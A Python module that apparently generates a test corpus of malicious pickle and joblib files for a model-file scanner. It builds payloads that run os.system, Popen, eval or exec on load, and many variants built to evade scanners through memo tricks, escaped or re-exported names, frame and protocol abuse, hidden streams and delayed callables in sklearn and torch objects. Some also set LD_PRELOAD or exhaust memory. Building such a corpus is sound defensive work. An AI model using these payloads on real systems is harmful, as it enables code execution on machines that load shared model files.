"""Pickles that act when they are loaded: gadgets of many libraries, ways to hide a call, things that go off later.

A file counts as malicious by construction: it calls, constructs or stores for later something that acts on more than its arguments.
Frozen by digest before anything was tuned on it (scan.py, `FROZEN`).
"""

from __future__ import annotations

import random
import struct
from collections.abc import Iterator

from scan_assembler import CANARY, CODE, COMMAND, EVAL, SYSTEM, Item, Raw, boom, call, estimator, name, plain, text, whole
from scan_gadgets import LIBRARIES, STANDARD

# --- ways to hide a call -----------------------------------------------------------------------------------------------------------------


def _hidden() -> Iterator[tuple[str, bytes]]:
    system = name("os", "system")
    yield "dup-then-call", whole(system + b"2" + plain((COMMAND,)) + b"R0.")
    yield "call-then-pop", whole(boom() + b"0" + plain({"weights": [1.0, 2.0]}))
    yield "call-inside-popped-mark", whole(b"(" + boom() + b"1" + plain([1]))
    yield (
        "memo-overwritten",
        whole(plain("math") + b"q\x00" + plain("os") + b"q\x00" + b"0h\x00" + plain("system") + b"\x93" + plain((COMMAND,)) + b"R"),
    )
    yield "names-from-memo", whole(text("os") + b"\x940" + text("system") + b"\x940" + b"h\x00h\x01\x93" + plain((COMMAND,)) + b"R")
    yield (
        "long-memo-index",
        whole(
            text("os")
            + b"r"
            + struct.pack("<I", 70_000)
            + b"0j"
            + struct.pack("<I", 70_000)
            + text("system")
            + b"\x93"
            + plain((COMMAND,))
            + b"R"
        ),
    )
    yield "text-memo-index", whole(b"Vos\np7\n0g7\n" + b"Vsystem\n\x93" + plain((COMMAND,)) + b"R")
    yield "unicode-escape-name", whole(b"V\\u006fs\nVsys\\u0074em\n\x93" + plain((COMMAND,)) + b"R")
    yield "string-hex-escape", whole(b"S'\\x6f\\x73'\nS'system'\n\x93" + plain((COMMAND,)) + b"R")
    yield "binstring-name", whole(b"U\x02osU\x06system\x93" + plain((COMMAND,)) + b"R")
    yield (
        "binunicode8-name",
        whole(b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system\x93" + plain((COMMAND,)) + b"R"),
    )
    yield "dotted-through-reexport", whole(name("posixpath", "os.system") + plain((COMMAND,)) + b"R")
    yield "dotted-through-numpy", whole(name("numpy.lib._npyio_impl", "os.system") + plain((COMMAND,)) + b"R")
    yield "dotted-through-sklearn", whole(name("sklearn.utils.validation", "warnings.sys.modules") + b".")
    yield "dotted-dunder", whole(name("builtins", "str.__class__.__base__.__subclasses__") + b")R")
    yield "dotted-allowed-class", whole(name("collections", "OrderedDict.__init__.__globals__") + b".")
    yield "dotted-allowed-method", whole(name("numpy", "ndarray.tofile") + plain((1, CANARY)) + b"R")
    yield "dotted-dtype", whole(name("numpy", "dtype.__class__") + plain((1,)) + b"R")
    yield "global-with-spaces", whole(b"cos \nsystem\n" + plain((COMMAND,)) + b"R", 2)
    yield "global-relative", whole(b"c.os\nsystem\n" + plain((COMMAND,)) + b"R", 2)
    yield "global-dotted-old-protocol", whole(b"cposixpath\nos.system\n" + plain((COMMAND,)) + b"R", 2)
    yield "two-to-three-mapping", whole(b"ccommands\ngetoutput\n" + plain((COMMAND,), 2) + b"R", 2)
    yield "two-to-three-builtin", whole(b"c__builtin__\nexecfile\n" + plain((CANARY,), 1) + b"R", 0)
    yield "two-to-three-name", whole(b"citertools\nimap\n(" + b"cos\nsystem\n" + plain([COMMAND], 2) + b"tR", 2)
    yield "protocol-said-twice", whole(b"\x80\x02" + b"\x80\x04" + boom())
    yield "protocol-lowered-inside", whole(b"\x80\x01" + boom())
    yield "protocol-none", boom(0) + b"."
    yield "frame-too-short", b"\x80\x04\x95" + struct.pack("<Q", 4) + boom() + b"."
    yield "frame-too-long", b"\x80\x04\x95" + struct.pack("<Q", 4000) + boom() + b"."
    yield "frame-in-frame", b"\x80\x04\x95" + struct.pack("<Q", 100) + b"\x95" + struct.pack("<Q", 50) + boom() + b"."
    yield (
        "frame-straddled-by-text",
        b"\x80\x04\x95" + struct.pack("<Q", 3) + text("os") + text("system") + b"\x93" + plain((COMMAND,)) + b"R.",
    )
    yield "extension-registry", whole(b"\x82\x01" + plain((COMMAND,)) + b"R")
    yield "extension-registry-4", whole(b"\x84\x01\x00\x00\x00" + plain((COMMAND,)) + b"R")
    yield "persistent-id", whole(b"Pos.system\n" + plain((COMMAND,)) + b"R")
    yield "binary-persistent-id", whole(plain(("storage", SYSTEM, COMMAND)) + b"Q")
    yield "out-of-band-buffer", whole(b"\x97\x98", 5)
    yield "protocol-six", b"\x80\x06" + boom() + b"."
    yield "protocol-255", b"\x80\xff" + boom() + b"."
    yield "newobj-of-acting-class", whole(name("subprocess", "Popen") + plain((["touch", CANARY],)) + b"\x81")
    yield "newobj-ex-of-acting-class", whole(name("tempfile", "TemporaryDirectory") + b")" + plain({"suffix": "x"}) + b"\x92")
    yield "obj", whole(b"(" + name("os", "system") + plain(COMMAND) + b"o")
    yield "obj-in-list", whole(b"]" + b"(" + name("os", "popen") + plain(COMMAND) + b"oa")
    yield "inst", whole(b"(" + plain(COMMAND, 0) + b"ios\nsystem\n", 0)
    yield "inst-in-dict", whole(b"(" + plain("k", 0) + b"(" + plain(COMMAND, 0) + b"iposix\nsystem\nd", 0)
    yield "build-on-a-class", whole(name("collections", "OrderedDict") + plain({"__reduce__": SYSTEM}) + b"b")
    yield "build-on-a-function", whole(name("math", "sqrt") + plain({"x": 1}) + b"b")
    yield "build-slots-on-a-class", whole(name("json", "JSONEncoder") + plain((None, {"default": SYSTEM})) + b"b")
    yield "build-class-attribute", whole(estimator("collections", "UserDict", {"__class__": Raw(name("subprocess", "Popen"))}))
    yield (
        "build-setstate-in-instance",
        whole(estimator("sklearn.preprocessing._data", "StandardScaler", {"__setstate__": SYSTEM}) + plain(COMMAND) + b"b"),
    )
    yield "build-getattr-in-instance", whole(estimator("sklearn.pipeline", "Pipeline", {"__getattr__": SYSTEM}))
    yield (
        "build-two-states",
        whole(estimator("sklearn.preprocessing._data", "StandardScaler", {}) + plain((None, {"__dict__": SYSTEM})) + b"b"),
    )
    yield "setitem-on-made-object", whole(call("os", "environ.__class__") + plain("LD_PRELOAD") + plain("/tmp/x.so") + b"s")
    yield "setitems-on-a-name", whole(name("os", "environ") + b"(" + plain("LD_PRELOAD") + plain("/tmp/x.so") + b"u")
    yield "setitem-into-modules", whole(name("sys", "modules") + plain("json") + SYSTEM.code + b"s")
    yield "append-on-a-name", whole(name("sys", "path") + plain("/tmp") + b"a")
    yield "appends-on-a-name", whole(name("sys", "meta_path") + b"(" + SYSTEM.code + b"e")
    yield "additems-on-a-name", whole(name("sys", "builtin_module_names") + b"(" + plain("x") + b"\x90")
    yield "result-called-again", whole(call("functools", "partial", SYSTEM, COMMAND) + b")R")
    yield "partial-of-partial", whole(call("functools", "partial", Raw(call("functools", "partial", SYSTEM)), COMMAND) + b")R")
    yield (
        "getattr-chain-deep",
        whole(call("builtins", "getattr", Raw(call("builtins", "getattr", Raw(call("builtins", "__import__", "os")), "path")), "os")),
    )
    yield (
        "methodcaller-replace",
        whole(call("operator", "methodcaller", "system", COMMAND) + plain((Raw(call("importlib", "import_module", "os")),)) + b"R"),
    )
    yield "map-into-list", whole(call("builtins", "list", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-deque", whole(call("collections", "deque", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-bytearray", whole(call("builtins", "bytearray", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-ordereddict", whole(call("collections", "OrderedDict", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "map-into-counter", whole(call("collections", "Counter", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "defaultdict-factory", whole(call("collections", "defaultdict", SYSTEM))
    yield "defaultdict-factory-eval", whole(call("collections", "defaultdict", Raw(call("functools", "partial", EVAL, CODE))))
    yield "counter-of-map", whole(call("collections", "Counter", Raw(call("builtins", "map", SYSTEM, [COMMAND]))))
    yield "reduce-without-tuple", whole(SYSTEM.code + plain([COMMAND]) + b"R")
    yield "import-only", whole(name("antigravity", "webbrowser"))
    yield "import-only-unknown", whole(name("evil_package.startup", "VERSION"))
    yield "import-only-this", whole(name("this", "s"))
    yield "import-submodule-with-effects", whole(name("idlelib.idle", "x"))
    yield "name-non-ascii", whole(name("ос", "system") + plain((COMMAND,)) + b"R")
    yield "name-with-null", whole(name("os\0", "system") + plain((COMMAND,)) + b"R")
    yield "name-empty-module", whole(name("", "system") + plain((COMMAND,)) + b"R")
    yield "name-not-text", whole(plain(1) + plain(2) + b"\x93" + plain((COMMAND,)) + b"R")
    yield "name-from-call", whole(call("builtins", "str", "os") + text("system") + b"\x93" + plain((COMMAND,)) + b"R")
    yield "exception-with-cause", whole(call("builtins", "Exception", Raw(boom())))
    yield "in-set", whole(b"\x8f(" + boom() + b"\x90")
    yield "in-frozenset", whole(b"(" + boom() + b"\x91")
    yield "as-key", whole(b"}" + boom() + b"Ks".replace(b"K", b"K\x01"))
    yield "in-tuple3", whole(b"NN" + boom() + b"\x87")
    yield "in-persistent-id", whole(plain(("storage", Raw(boom()))) + b"Q")
    yield "after-many-floats", whole(b"]" + b"(" + (b"G" + bytes(8)) * 50_000 + b"e" + boom() + b"a")
    yield "after-many-memos", whole(b"".join(text("x") + b"\x940" for _ in range(5_000)) + boom())
    yield "after-long-bytes", whole(b"\x8e" + struct.pack("<Q", 1 << 20) + bytes(1 << 20) + b"0" + boom())
    yield "after-deep-lists", whole(b"]" * 5_000 + b"0" * 4_999 + b"0" + boom())
    yield "in-global-class-argument", whole(call("collections", "OrderedDict", [(1, Raw(boom()))]))
    yield (
        "numpy-reconstruct-other-class",
        whole(call("numpy.core.multiarray", "_reconstruct", Raw(name("subprocess", "Popen")), (0,), b"b")),
    )
    yield "numpy-dtype-eval", whole(call("numpy", "dtype", f"__import__('os').system('{COMMAND}')"))
    yield "numpy-scalar-object", whole(call("numpy.core.multiarray", "scalar", Raw(call("numpy", "dtype", "O8", False, True)), Raw(boom())))
    yield "torch-rebuild-with-call", whole(call("torch._utils", "_rebuild_tensor_v2", Raw(boom()), 0, (1,), (1,), False, {}))
    yield (
        "torch-parameter-hook",
        whole(call("torch._utils", "_rebuild_parameter", 1, True, Raw(call("collections", "OrderedDict", [(0, SYSTEM)])))),
    )
    yield (
        "reconstructor-acting-base",
        whole(call("copyreg", "_reconstructor", Raw(name("collections", "OrderedDict")), Raw(name("subprocess", "Popen")), Raw(boom()))),
    )
    yield "datetime-of-a-call", whole(call("datetime", "datetime", Raw(boom())))
    yield "uuid-with-state", whole(estimator("uuid", "UUID", {"int": SYSTEM}))
    yield "str-repeat", whole(call("operator", "mul", "A", 10**9))
    yield "range-into-list", whole(call("builtins", "list", Raw(call("builtins", "range", 10**12))))
    yield "bytearray-of-size", whole(call("builtins", "bytearray", 10**12))
    yield "set-of-nested-tuples", whole(_laughs(60) + b"\x8f(" + b"h\x3b" + b"\x90")
    yield "numpy-of-size", whole(call("numpy", "zeros", 10**12))
    yield "base64-then-loads", whole(call("pickle", "loads", Raw(call("base64", "b64decode", "gASVAA=="))))


def _laughs(depth: int) -> bytes:
    """Each tuple holds the one before twice."""
    return plain("x") + b"\x94" + b"".join(b"h" + bytes([step]) + b"h" + bytes([step]) + b"\x86\x94" for step in range(depth - 1))


# --- things that go off later ------------------------------------------------------------------------------------------------------------


def _delayed() -> Iterator[tuple[str, bytes]]:
    acting = {
        "system": SYSTEM, "eval": EVAL, "partial": Raw(call("functools", "partial", SYSTEM, COMMAND)), "popen": Raw(name("os", "popen")),
        "attrgetter": Raw(call("operator", "attrgetter", "__class__")), "exec": Raw(name("builtins", "exec")),
        "import": Raw(name("builtins", "__import__")), "loads": Raw(name("pickle", "loads")), "popen-class": Raw(name("subprocess", "Popen")),
        "lambda": Raw(call("cloudpickle.cloudpickle", "_make_function", 1, {}, None, None, None)),
    }  # fmt: skip
    places = (
        ("sklearn.preprocessing._function_transformer", "FunctionTransformer", "func"),
        ("sklearn.preprocessing._function_transformer", "FunctionTransformer", "inverse_func"),
        ("sklearn.feature_extraction.text", "CountVectorizer", "tokenizer"),
        ("sklearn.feature_extraction.text", "TfidfVectorizer", "preprocessor"),
        ("sklearn.neighbors._classification", "KNeighborsClassifier", "metric"),
        ("sklearn.decomposition._kernel_pca", "KernelPCA", "kernel"),
        ("sklearn.svm._classes", "SVC", "kernel"),
        ("sklearn.compose._target", "TransformedTargetRegressor", "func"),
        ("sklearn.model_selection._search", "GridSearchCV", "scoring"),
        ("sklearn.ensemble._forest", "RandomForestClassifier", "estimator_params"),
        ("sklearn.cluster._agglomerative", "FeatureAgglomeration", "pooling_func"),
        ("sklearn.feature_selection._univariate_selection", "SelectKBest", "score_func"),
        ("sklearn.linear_model._ransac", "RANSACRegressor", "loss"),
        ("sklearn.pipeline", "Pipeline", "steps"),
        ("sklearn.calibration", "CalibratedClassifierCV", "estimator"),
        ("torch.nn.modules.linear", "Linear", "_forward_hooks"),
        ("torch.nn.modules.container", "Sequential", "forward"),
        ("torch.utils.data.dataset", "TensorDataset", "transform"),
        ("xgboost.sklearn", "XGBClassifier", "objective"),
        ("lightgbm.sklearn", "LGBMRegressor", "_objective"),
        ("numpy", "vectorize", "pyfunc"),
        ("collections", "UserDict", "data"),
    )
    for module, qualified, attribute in places:
        for label, value in acting.items():
            yield f"{qualified}.{attribute}={label}", whole(estimator(module, qualified, {attribute: value}))


def _streams() -> Iterator[tuple[str, bytes]]:
    good = whole(plain({"weights": [1.0, 2.0]}))
    yield "second-pickle-after-many", good * 20 + whole(boom())
    yield "payload-behind-zeros", good + bytes(4096) + whole(boom())
    yield "payload-behind-text", b"# a model\n" + whole(boom())
    yield "payload-behind-png", b"\x89PNG\r\n\x1a\n" + whole(boom())
    yield "payload-behind-newlines", b"\n" * 50 + whole(boom())
    yield "stopped-in-the-middle-of-an-opcode", whole(boom())[:-1] + b"\x8c\xff"
    yield "unknown-opcode-after-call", whole(boom() + b"\xff")
    yield "no-value-at-stop", b"\x80\x04" + boom() + b"0."
    yield "huge-length-after-call", b"\x80\x04" + boom() + b"\x8e" + struct.pack("<Q", 1 << 62)
    yield "huge-bytearray", whole(b"\x96" + struct.pack("<Q", 1 << 62))
    yield "huge-long4", whole(b"\x8b" + struct.pack("<I", 1 << 31 - 1))
    yield "huge-memo-index", whole(plain(1) + b"r" + struct.pack("<I", 0xFFFFFFFF))
    yield "million-marks", whole(b"(" * 1_000_000)
    yield "persid-at-the-end", good[:-1] + b"Px\n."


def gadgets() -> Iterator[Item]:
    """Every gadget in a protocol of its own choosing, and a second time in another container of names."""
    for index, (module, qualified, arguments) in enumerate((*STANDARD, *LIBRARIES)):
        dotted = "." in qualified
        protocol = 4 if dotted else (0, 2, 4, 5)[index % 4]
        label = f"{module}.{qualified}"
        yield Item(
            f"g{index:04d}.pkl",
            "pickle",
            f"gadget:{label}",
            whole(
                call(module, qualified, *arguments, protocol=4) if dotted else _call_in(protocol, module, qualified, arguments), protocol
            ),
        )


def _call_in(protocol: int, module: str, qualified: str, arguments: tuple[object, ...]) -> bytes:
    return name(module, qualified, protocol) + plain(arguments, max(protocol, 2)) + b"R"


def items() -> Iterator[Item]:
    """All of it."""
    yield from gadgets()
    for index, (technique, content) in enumerate(_hidden()):
        yield Item(f"h{index:04d}.pkl", "pickle", f"hidden:{technique}", content)
    for index, (technique, content) in enumerate(_delayed()):
        yield Item(f"d{index:04d}.joblib", "pickle", f"later:{technique}", content)
    for index, (technique, content) in enumerate(_streams()):
        yield Item(f"s{index:04d}.pkl", "pickle", f"stream:{technique}", content)


def rewritten(item: Item, seed: int) -> Iterator[Item]:
    """The same program with other names, other opcodes, another memo, inside other wrappings; for pickles of protocol 4 and later."""
    assert isinstance(item.content, bytes)
    draw = random.Random(seed)
    body = item.content
    yield Item(
        draw.choice(("model.bin", "weights.txt", "data.json", "tok.safetensors", "x")), item.family, f"renamed:{item.technique}", body
    )
    if body[:2] == b"\x80\x04":
        padded = b"".join(
            draw.choice((b"N0", b"K\x070", b")0", b"]0", text("pad") + b"0", b"}\x940")) for _ in range(draw.randrange(1, 60))
        )
        yield Item(item.name, item.family, f"padded:{item.technique}", b"\x80\x05" + padded + body[2:])
        inside = body[2:-1]
        yield Item(
            item.name, item.family, f"wrapped:{item.technique}", whole(b"}" + text("state_dict") + b"(" + plain(1.5) + inside + b"l" + b"s")
        )
